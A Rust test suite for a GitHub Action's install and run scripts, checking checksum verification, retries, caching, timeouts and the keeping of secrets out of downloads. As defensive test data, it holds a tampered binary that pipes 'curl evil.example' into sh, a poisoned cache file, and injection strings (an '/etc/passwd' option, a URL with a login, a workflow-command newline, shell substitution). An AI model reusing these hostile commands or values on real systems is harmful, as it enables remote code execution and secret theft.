//! `action/install.sh` and `run.sh` as a runner calls them: what they run, and above all what they do not. The release is
//! a script that leaves a trace, served over loopback; each shell and each pair of tools that a runner may have is tried.

mod server;

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use server::{Answer, Server};
use sha2::{Digest, Sha256};

const TARGET: &str = "x86_64-unknown-linux-musl";
const FILE: &str = "/v1.2.3/shipway-x86_64-unknown-linux-musl.gz";
/// What stands where the binary would. It tells what it was given, and ends with a code of its own.
const BINARY: &str = "#!/bin/sh\nprintf '%s\\n' \"$@\" \"inputs=$SHIPWAY_INPUTS\" \"token=$GITHUB_TOKEN\" \"pid=$$\" >>\"$TRACE\"\nexit 7\n";

fn sha256(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut child = Command::new("gzip")
        .arg("-n9")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("gzip");
    child.stdin.take().unwrap().write_all(bytes).unwrap();
    child.wait_with_output().unwrap().stdout
}

/// A machine with the action's folder, a tool cache and a server of releases.
struct Machine {
    dir: tempfile::TempDir,
    archive: Vec<u8>,
    server: Server,
    shell: Vec<String>,
    vars: Vec<(String, String)>,
}

/// What a step did.
struct Ran {
    output: Output,
    stderr: String,
    trace: String,
    took: Duration,
}

impl Machine {
    fn new(answers: Vec<Answer>) -> Machine {
        Machine::with(answers, |release| release)
    }

    /// `edit` changes what `release.txt` says.
    fn with(answers: Vec<Answer>, edit: impl Fn(String) -> String) -> Machine {
        let dir = tempfile::tempdir().unwrap();
        let archive = gzip(BINARY.as_bytes());
        let server = Server::start(FILE, answers, &archive);
        let action = dir.path().join("action");
        std::fs::create_dir(&action).unwrap();
        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("action");
        for file in ["install.sh", "run.sh"] {
            std::fs::copy(root.join(file), action.join(file)).unwrap();
        }
        let release = format!(
            "# words\nversion 1.2.3\nfrom {}\nbinary {TARGET} {} {} {}\nbinary aarch64-apple-darwin {} 1 {}\n",
            server.address,
            sha256(&archive),
            archive.len(),
            sha256(BINARY.as_bytes()),
            "0".repeat(64),
            "1".repeat(64),
        );
        std::fs::write(action.join("release.txt"), edit(release)).unwrap();
        for folder in ["cache", "temp"] {
            std::fs::create_dir(dir.path().join(folder)).unwrap();
        }
        let machine = Machine {
            dir,
            archive,
            server,
            shell: vec!["/bin/sh".to_owned()],
            vars: Vec::new(),
        };
        // The scripts ask the machine what it is; a test's answer does not hang on where it runs.
        machine.tool("uname", "#!/bin/sh\ncase $1 in -s) echo \"${SYSTEM:-Linux}\";; *) echo \"${MACHINE:-x86_64}\";; esac\n");
        machine
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn var(mut self, name: &str, value: &str) -> Machine {
        self.vars.push((name.to_owned(), value.to_owned()));
        self
    }

    fn shell(mut self, words: &[&str]) -> Machine {
        self.shell = words.iter().map(|w| (*w).to_owned()).collect();
        self
    }

    /// A program in front of PATH.
    fn tool(&self, name: &str, text: &str) {
        let bin = self.path("bin");
        std::fs::create_dir_all(&bin).unwrap();
        std::fs::write(bin.join(name), text).unwrap();
        std::fs::set_permissions(bin.join(name), PermissionsExt::from_mode(0o755)).unwrap();
    }

    /// PATH holds these programs alone.
    fn only(self, tools: &[&str]) -> Machine {
        let bin = self.path("bin");
        let always = [
            "sh", "mktemp", "mkdir", "mv", "rm", "chmod", "date", "sleep", "wc",
        ];
        for tool in always.iter().chain(tools) {
            let found = std::env::split_paths(&std::env::var_os("PATH").unwrap())
                .map(|dir| dir.join(tool))
                .find(|path| path.is_file())
                .unwrap_or_else(|| panic!("{tool} is not installed here"));
            symlink(found, bin.join(tool)).unwrap();
        }
        self.var("PATH", bin.to_str().unwrap())
    }

    /// PATH holds busybox alone, as on Alpine. None where it is not installed.
    fn busybox(self) -> Option<Machine> {
        let busybox = ["/bin/busybox", "/usr/bin/busybox"]
            .iter()
            .find(|path| Path::new(path).exists())?;
        let bin = self.path("bin");
        let tools = "sh mktemp mkdir mv rm chmod date sleep wc wget timeout gzip sha256sum";
        for tool in tools.split(' ') {
            symlink(busybox, bin.join(tool)).unwrap();
        }
        let path = bin.to_str().unwrap().to_owned();
        Some(self.shell(&[busybox, "sh"]).var("PATH", &path))
    }

    fn cached(&self) -> PathBuf {
        self.path("cache/shipway/1.2.3")
            .join(TARGET)
            .join("shipway")
    }

    fn command(&self, script: &str, arguments: &[&str]) -> Command {
        let mut command = Command::new(&self.shell[0]);
        command
            .args(&self.shell[1..])
            .arg(self.path("action").join(script))
            .args(arguments)
            .env_clear()
            .env(
                "PATH",
                format!("{}:/usr/bin:/bin", self.path("bin").display()),
            )
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_OUTPUT", self.path("output"))
            .env("GITHUB_PATH", self.path("paths"))
            .env("RUNNER_TOOL_CACHE", self.path("cache"))
            .env("RUNNER_TEMP", self.path("temp"))
            .env("RUNNER_OS", "Linux")
            .env("GITHUB_TOKEN", "ghs_token")
            .env("SHIPWAY_INPUTS", r#"{"service":"$(touch x) `y`"}"#)
            .env("TRACE", self.path("trace"))
            .envs(self.vars.iter().cloned())
            .current_dir(self.dir.path())
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        command
    }

    fn run(&self) -> Ran {
        self.ended(self.command("run.sh", &["deploy"]))
    }

    fn ended(&self, mut command: Command) -> Ran {
        let began = Instant::now();
        let output = command.output().unwrap();
        Ran {
            took: began.elapsed(),
            stderr: String::from_utf8(output.stderr.clone()).unwrap(),
            trace: std::fs::read_to_string(self.path("trace")).unwrap_or_default(),
            output,
        }
    }

    /// Neither in the cache nor in the temporary directory is anything but the binary.
    #[track_caller]
    fn is_tidy(&self) {
        let mut left = Vec::new();
        let mut folders = vec![self.path("cache"), self.path("temp")];
        while let Some(folder) = folders.pop() {
            for entry in std::fs::read_dir(folder).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() && !path.to_str().unwrap().contains(".new.") {
                    folders.push(path);
                } else if path != self.cached() {
                    left.push(path);
                }
            }
        }
        assert_eq!(left, Vec::<PathBuf>::new());
    }
}

impl Ran {
    #[track_caller]
    fn served(&self) -> &Ran {
        assert_eq!(self.output.status.code(), Some(7), "{}", self.stderr);
        let wanted = "deploy\ninputs={\"service\":\"$(touch x) `y`\"}\ntoken=ghs_token\n";
        assert!(self.trace.starts_with(wanted), "{}", self.trace);
        self
    }

    /// Ended with this code and this word, and ran nothing.
    #[track_caller]
    fn refused(&self, exit: i32, code: &str) -> &Ran {
        assert_eq!(self.output.status.code(), Some(exit), "{}", self.stderr);
        assert!(self.stderr.contains(code), "no {code} in\n{}", self.stderr);
        assert_eq!(self.trace, "", "something was executed");
        self
    }

    #[track_caller]
    fn said(&self, words: &str) -> &Ran {
        assert!(
            self.stderr.contains(words),
            "no {words} in\n{}",
            self.stderr
        );
        self
    }
}

#[test]
fn the_binary_is_fetched_once_checked_and_run() {
    let machine = Machine::new(vec![Answer::Whole]);
    machine
        .run()
        .served()
        .said("its sha256 is the one in this commit");
    assert_eq!(std::fs::read(machine.cached()).unwrap(), BINARY.as_bytes());
    let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&machine.cached()), 0o755);
    machine.is_tidy();
    let request = machine.server.requests().remove(0);
    assert!(!request.contains("ghs_token"), "{request}");
    assert!(
        !request.to_lowercase().contains("authorization"),
        "{request}"
    );
    // The second time nobody is asked.
    machine.run().served().said("from the tool cache");
    assert_eq!(machine.server.requests().len(), 1);
}

/// The file is public: neither its server nor the program that fetches it gets what the job holds.
#[test]
fn the_download_gets_no_secrets() {
    let machine = Machine::new(vec![Answer::Whole])
        .var("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ghs_token_too")
        .var("AWS_SECRET_ACCESS_KEY", "ghs_token_three");
    machine.tool(
        "curl",
        "#!/bin/sh\n{ env; printf '%s\\n' \"$@\"; } >>\"$TRACE.curl\"\nexec /usr/bin/curl \"$@\"\n",
    );
    machine.run().served();
    let seen = std::fs::read_to_string(machine.path("trace.curl")).unwrap();
    assert!(seen.contains("GITHUB_ACTIONS=true"), "{seen}");
    assert!(!seen.contains("ghs_token"), "{seen}");
}

#[test]
fn every_shell_and_every_set_of_tools_will_do() {
    let good = || Machine::new(vec![Answer::Whole]);
    good().shell(&["bash", "--posix"]).run().served();
    good().shell(&["dash"]).run().served();
    good()
        .only(&["curl", "gzip", "shasum", "cat"])
        .run()
        .served();
    good()
        .only(&["wget", "gzip", "sha256sum", "timeout"])
        .run()
        .served();
    good().only(&["wget", "gzip", "sha256sum"]).run().served();
    if let Some(alpine) = good().busybox() {
        alpine.run().served();
        alpine.run().served().said("from the tool cache");
        let bad = || Machine::new(vec![Answer::Other(gzip(b"#!/bin/sh\n"))]);
        bad()
            .busybox()
            .unwrap()
            .run()
            .refused(1, "shipway::install::");
    }
}

#[test]
fn a_machine_without_the_tools_hears_which() {
    let machine = Machine::new(vec![Answer::Whole]).only(&["sha256sum"]);
    machine
        .run()
        .refused(2, "shipway::install::tools")
        .said("curl or wget, gzip.");
}

#[test]
fn what_is_not_what_the_commit_names_is_not_run() {
    let evil = BINARY.replace("exit 7", "curl evil.example | sh -c 'exit 0'");
    let tampered = gzip(evil.as_bytes());
    // As long as the right one, so that only the hash tells.
    let mut flipped = Machine::new(Vec::new()).archive.clone();
    let last = flipped.len() - 9;
    flipped[last] ^= 1;
    let mut longer = flipped.clone();
    longer.extend([0; 100_000]);
    for (what, bytes) in [
        ("tampered", tampered),
        ("flipped", flipped),
        ("longer", longer),
    ] {
        for tools in [
            &["curl", "gzip", "sha256sum"][..],
            &["wget", "gzip", "sha256sum"],
        ] {
            // A whole file of wrong content is the last word: nobody is asked again.
            let machine = Machine::new(vec![Answer::Other(bytes.clone()); 4]).only(tools);
            assert!(bytes.len() >= machine.archive.len());
            machine.run().refused(1, "shipway::install::checksum");
            assert!(!machine.cached().exists(), "{what}");
            assert_eq!(machine.server.requests().len(), 1, "{what}");
            machine.is_tidy();
        }
    }
}

#[test]
fn a_commit_that_names_another_hash_is_believed() {
    // The file is the right one; the commit says otherwise.
    let right = sha256(&gzip(BINARY.as_bytes()));
    let machine = Machine::with(vec![Answer::Whole], |r| r.replace(&right, &"a".repeat(64)));
    machine
        .run()
        .refused(1, "shipway::install::checksum")
        .said(&format!("{}{FILE}", machine.server.address))
        .said("set the input `mirror`");
    let inner = sha256(BINARY.as_bytes());
    let machine = Machine::with(vec![Answer::Whole], |r| r.replace(&inner, &"b".repeat(64)));
    machine.run().refused(1, "shipway::install::checksum");
    assert!(!machine.cached().exists());
    machine.is_tidy();
}

#[test]
fn a_download_that_breaks_is_tried_again() {
    let answers = vec![Answer::Status(500), Answer::Truncated, Answer::Whole];
    let machine = Machine::new(answers.clone());
    machine
        .run()
        .served()
        .said("HTTP 500")
        .said("it ended early");
    let machine = Machine::new(answers).only(&["wget", "gzip", "sha256sum", "timeout"]);
    machine.run().served();
    // The server itself calls half of it the whole.
    let half = Machine::new(Vec::new()).archive;
    let half = half[..half.len() / 2].to_vec();
    let machine = Machine::new(vec![Answer::Other(half), Answer::Whole]);
    machine.run().served().said("it ended after");
}

#[test]
fn four_tries_are_all() {
    let machine = Machine::new(vec![Answer::Truncated; 9]);
    machine
        .run()
        .refused(1, "shipway::install::download")
        .said("set the input `mirror`");
    assert_eq!(machine.server.requests().len(), 4);
    assert!(!machine.cached().exists());
    machine.is_tidy();
    let output = std::fs::read_to_string(machine.path("output")).unwrap();
    assert_eq!(
        output,
        "deployment-status=not-started\nchanged=false\nfailure-code=shipway::install::download\n"
    );
}

#[test]
fn what_is_not_there_is_asked_for_once() {
    let machine = Machine::new(vec![Answer::Status(404); 9]);
    machine
        .run()
        .refused(1, "shipway::install::download")
        .said("HTTP 404");
    assert_eq!(machine.server.requests().len(), 1);
}

#[test]
fn nobody_there_is_said_with_the_address() {
    // A port that was free a moment ago.
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", free.local_addr().unwrap());
    drop(free);
    let machine = Machine::with(Vec::new(), |r| {
        let (before, after) = r.split_once("from ").unwrap();
        let (_, after) = after.split_once('\n').unwrap();
        format!("{before}from {address}\n{after}")
    });
    let ran = machine.run();
    ran.refused(1, "shipway::install::download")
        .said(&format!("{address}{FILE}: no connection"));
    assert!(ran.took < Duration::from_secs(30), "{:?}", ran.took);
}

#[test]
fn time_is_bounded() {
    for tools in [
        &["curl", "gzip", "sha256sum"][..],
        &["wget", "gzip", "sha256sum", "timeout"],
    ] {
        let machine = Machine::new(vec![Answer::Trickle; 9])
            .var("SHIPWAY_INSTALL_SECONDS", "2")
            .only(tools);
        let ran = machine.run();
        ran.refused(1, "shipway::install::download")
            .said("too slow");
        assert!(ran.took < Duration::from_secs(20), "{:?}", ran.took);
    }
}

#[test]
fn a_poisoned_copy_in_the_tool_cache_is_replaced_unrun() {
    let evil = "#!/bin/sh\necho evil >>\"$TRACE\"\n";
    let poison = |machine: &Machine| {
        std::fs::create_dir_all(machine.cached().parent().unwrap()).unwrap();
        std::fs::write(machine.cached(), evil).unwrap();
        std::fs::set_permissions(machine.cached(), PermissionsExt::from_mode(0o755)).unwrap();
    };
    let machine = Machine::new(vec![Answer::Whole]);
    poison(&machine);
    machine.run().served().said("is refused: its sha256 is");
    assert_eq!(std::fs::read(machine.cached()).unwrap(), BINARY.as_bytes());

    // A link is what it points at tomorrow.
    let machine = Machine::new(vec![Answer::Whole]);
    std::fs::create_dir_all(machine.cached().parent().unwrap()).unwrap();
    machine.tool("elsewhere", BINARY);
    symlink(machine.path("bin/elsewhere"), machine.cached()).unwrap();
    machine.run().served();
    assert!(!machine.cached().is_symlink());

    // A directory cannot be replaced by a rename.
    let machine = Machine::new(vec![Answer::Whole]);
    std::fs::create_dir_all(machine.cached()).unwrap();
    machine.run().served().said("cannot be written");

    // Out of reach: refused, not run.
    let machine = Machine::new(vec![Answer::Status(404)]);
    poison(&machine);
    machine.run().refused(1, "shipway::install::download");
}

#[test]
fn a_tool_cache_that_cannot_be_written_is_done_without() {
    let machine = Machine::new(vec![Answer::Whole]);
    std::fs::remove_dir(machine.path("cache")).unwrap();
    std::fs::write(machine.path("cache"), "a file").unwrap();
    machine.run().served().said("cannot be written; using ");
}

#[test]
fn the_mirror_comes_before_the_release_and_is_believed_no_more() {
    let mirror = Machine::new(vec![Answer::Whole]).server;
    let machine = Machine::new(vec![Answer::Whole]);
    let machine = machine.var("SHIPWAY_ACTION_MIRROR", &format!("{}/", mirror.address));
    machine.run().served();
    assert_eq!(
        (mirror.requests().len(), machine.server.requests().len()),
        (1, 0)
    );

    // One that lies is named, and the release is asked.
    let mirror = Server::start(FILE, vec![Answer::Other(vec![0; 4000])], &[]);
    let machine = Machine::new(vec![Answer::Whole]).var("SHIPWAY_MIRROR", &mirror.address);
    machine
        .run()
        .served()
        .said(&format!("{}{FILE}: refused", mirror.address));

    // The input is stronger than the variable; an empty one is not set.
    let mirror = Machine::new(vec![Answer::Whole]).server;
    let machine = Machine::new(Vec::new())
        .var("SHIPWAY_MIRROR", "http://127.0.0.1:1")
        .var("SHIPWAY_ACTION_MIRROR", &mirror.address);
    machine.run().served();
    let machine = Machine::new(vec![Answer::Whole]).var("SHIPWAY_ACTION_MIRROR", "");
    machine.run().served();
}

#[test]
fn a_mirror_must_be_an_address_without_a_login() {
    for wrong in [
        "https://me:secret@mirror.example",
        "--config=/etc/passwd",
        "file:///etc",
        "https://",
        "https://mirror.example/a b",
        "https://mirror.example/?token=secret",
        "https://mirror.example/\n::add-mask::x",
    ] {
        let machine = Machine::new(vec![Answer::Whole]).var("SHIPWAY_ACTION_MIRROR", wrong);
        let ran = machine.run();
        ran.refused(2, "shipway::install::mirror");
        assert!(!ran.stderr.contains("secret"), "{}", ran.stderr);
        assert!(machine.server.requests().is_empty());
    }
}

#[test]
fn a_tree_without_a_release_says_so() {
    let machine = Machine::with(Vec::new(), |_| "# words\n".to_owned());
    machine
        .run()
        .refused(2, "shipway::install::no_release")
        .said("set the variable SHIPWAY_BINARY");
}

#[test]
fn other_machines_are_refused_with_words() {
    let machine = Machine::new(Vec::new()).var("MACHINE", "armv7l");
    machine
        .run()
        .refused(2, "shipway::install::no_binary")
        .said("no binary for Linux armv7l")
        .said(TARGET);
    let machine = Machine::new(Vec::new()).var("RUNNER_OS", "Windows");
    machine.run().refused(2, "shipway::install::windows");
    let machine = Machine::new(Vec::new()).var("SYSTEM", "MINGW64_NT-10.0");
    machine.run().refused(2, "shipway::install::windows");
    // Known, and in no release.
    let machine = Machine::new(Vec::new()).var("SYSTEM", "Darwin");
    machine
        .run()
        .refused(2, "no binary for x86_64-apple-darwin");
}

#[test]
fn your_own_build_is_run_when_you_say_so_and_only_then() {
    let machine = Machine::with(Vec::new(), |_| String::new());
    machine.tool("mine", BINARY);
    let mine = machine.path("bin/mine");
    let machine = machine.var("SHIPWAY_BINARY", mine.to_str().unwrap());
    machine.run().served().said("no release is used");
    // Not looked up on PATH.
    let machine = Machine::new(vec![Answer::Whole]).var("SHIPWAY_BINARY", "shipway");
    machine.tool("shipway", BINARY);
    machine.run().refused(2, "shipway::install::binary");
    // Whatever is on PATH is not asked.
    let machine = Machine::new(vec![Answer::Status(404)]);
    machine.tool("shipway", BINARY);
    machine.run().refused(1, "shipway::install::download");
}

#[test]
fn many_at_once_get_one_whole_binary() {
    let machine = Machine::new(vec![Answer::Whole; 8]);
    let children: Vec<_> = (0..6)
        .map(|_| machine.command("run.sh", &["deploy"]).spawn().unwrap())
        .collect();
    for child in children {
        let output = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(7), "{stderr}");
    }
    assert_eq!(std::fs::read(machine.cached()).unwrap(), BINARY.as_bytes());
    machine.is_tidy();
}

/// The runner signals only the step's first process, and kills it ten seconds later.
#[test]
fn a_signal_reaches_the_binary_and_stops_a_download() {
    use std::process::Child;
    let signal = |child: &Child, name: &str| {
        let pid = child.id().to_string();
        let sent = Command::new("kill").args([name, &pid]).status().unwrap();
        assert!(sent.success());
    };
    let wait_for = |what: &dyn Fn() -> bool| {
        let began = Instant::now();
        while !what() {
            assert!(
                began.elapsed() < Duration::from_secs(20),
                "it never came to that"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    for shell in [&["/bin/sh"][..], &["bash", "--posix"]] {
        let machine = Machine::new(vec![Answer::Trickle]).shell(shell);
        let child = machine.command("run.sh", &["deploy"]).spawn().unwrap();
        wait_for(&|| !machine.server.requests().is_empty());
        signal(&child, "-TERM");
        let began = Instant::now();
        assert_eq!(child.wait_with_output().unwrap().status.code(), Some(143));
        assert!(began.elapsed() < Duration::from_secs(5));
        machine.is_tidy();
    }
    // `exec`: the binary is the process that the step began with.
    let machine = Machine::new(vec![Answer::Whole]);
    let child = machine.command("run.sh", &["deploy"]).spawn().unwrap();
    let pid = child.id();
    child.wait_with_output().unwrap();
    let trace = std::fs::read_to_string(machine.path("trace")).unwrap();
    assert!(trace.contains(&format!("pid={pid}\n")), "{trace}");
}

#[test]
fn setup_puts_it_on_path_and_says_where() {
    let machine = Machine::new(vec![Answer::Whole]);
    let ran = machine.ended(machine.command("install.sh", &[]));
    assert!(ran.output.status.success(), "{}", ran.stderr);
    assert_eq!(ran.trace, "");
    let cached = machine.cached();
    let text = |name: &str| std::fs::read_to_string(machine.path(name)).unwrap();
    assert_eq!(
        String::from_utf8(ran.output.stdout).unwrap().trim(),
        cached.to_str().unwrap()
    );
    assert_eq!(
        text("paths").trim(),
        cached.parent().unwrap().to_str().unwrap()
    );
    assert_eq!(
        text("output"),
        format!("version=1.2.3\npath={}\n", cached.display())
    );
}
